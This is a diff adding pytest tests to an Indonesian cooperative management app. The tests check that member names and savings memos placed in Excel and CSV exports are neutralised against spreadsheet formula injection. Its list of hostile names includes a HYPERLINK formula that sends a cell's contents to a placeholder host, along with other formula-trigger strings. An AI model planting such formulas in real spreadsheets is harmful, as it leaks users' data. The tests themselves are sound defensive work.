@@ -130,3 +130,70 @@ def test_clinic_retail_and_warehouse_pdfs_print_hostile_names(hostile, make_user
     _ok(_get(c, f"/k/{k.slug}/gerai/laporan/?jenis=harian&dari=2026-01-01&sampai=2026-12-31&format=pdf"),
         literal=None)
     _ok(_get(c, f"/k/{k.slug}/gudang/laporan/pdf/?tahun=2026"))
+
+
+# --- item 7: no live formula from text in any Excel or CSV export ------------------------------------------------
+
+FORMULA_NAMES = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "=1+1", "+62-cmd", "@SUM(A1)", "-2+3"]
+
+
+def _cells(content: bytes) -> list:
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(BytesIO(content))
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def _no_formula(content: bytes) -> list:
+    cells = _cells(content)
+    assert not [c.value for c in cells if c.data_type == "f"], "a text cell became a formula"
+    return [c.value for c in cells]
+
+
+@pytest.fixture
+def formula_members(koperasi):
+    from kopdes.members.tests.factories import new_active_member
+    from kopdes.savings import services as savings
+
+    members = [new_active_member(koperasi, date=dt.date(2026, 1, 2), name=n) for n in FORMULA_NAMES]
+    savings.deposit(members[0], "sukarela", D("80000"), memo="=1+1")
+    savings.withdraw(members[0], "sukarela", D("30000"), memo="-1+1")
+    return members
+
+
+def test_member_and_savings_exports_hold_formula_names_as_text(koperasi, formula_members, make_user, client_as):
+    c = client_as(make_user("ketua", koperasi=koperasi))
+    values = _no_formula(_get(c, f"/k/{koperasi.slug}/anggota/?format=xlsx"))
+    for name in FORMULA_NAMES:
+        assert "'" + name in values, name
+    values = _no_formula(_get(c, f"/k/{koperasi.slug}/simpanan/mutasi/?format=xlsx"))
+    assert "'" + FORMULA_NAMES[1] in values
+    assert -30000 in values and 80000 in values  # amounts stay numbers, negative ones too
+    _no_formula(_get(c, f"/k/{koperasi.slug}/simpanan/tunggakan/?format=xlsx"))
+
+
+def test_ledger_csv_and_xlsx_hold_formula_memos_as_text(koperasi, formula_members, make_user, client_as):
+    import csv
+    import io
+
+    c = client_as(make_user("bendahara", koperasi=koperasi))
+    url = f"/k/{koperasi.slug}/akuntansi/laporan/buku-besar/?from=2026-01-01&to=2026-12-31&code=2101"
+    values = _no_formula(_get(c, url + "&format=xlsx"))
+    assert [v for v in values if isinstance(v, str) and v.startswith("'=1+1")]
+    assert any(v == 30000 for v in values if isinstance(v, int | float))  # the withdrawal, still a number
+    rows = list(csv.reader(io.StringIO(_get(c, url + "&format=csv").decode("utf-8-sig"))))
+    cells = [v for r in rows for v in r]
+    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))], cells
+    assert [v for v in cells if v.startswith("'=1+1")] and [v for v in cells if v.startswith("'-1+1")]
+    assert "-0.00" in cells and "30000.00" in cells  # amounts, negative ones too, are plain numbers
+
+
+def test_neutralise_keeps_numbers_and_dashes():
+    from kopdes.core.sheets import neutralise, safe_row
+
+    assert safe_row(["=1+1", "+62812", "+62-cmd", "-", "-5000.00", "-1.234,50", D("-5"), -3, "@x", "\r=1",
+                     "\t=1", "abc"]) == [
+        "'=1+1", "+62812", "'+62-cmd", "-", "-5000.00", "-1.234,50", D("-5"), -3, "'@x", "'\r=1", "'\t=1", "abc"]
+    assert neutralise(None) is None
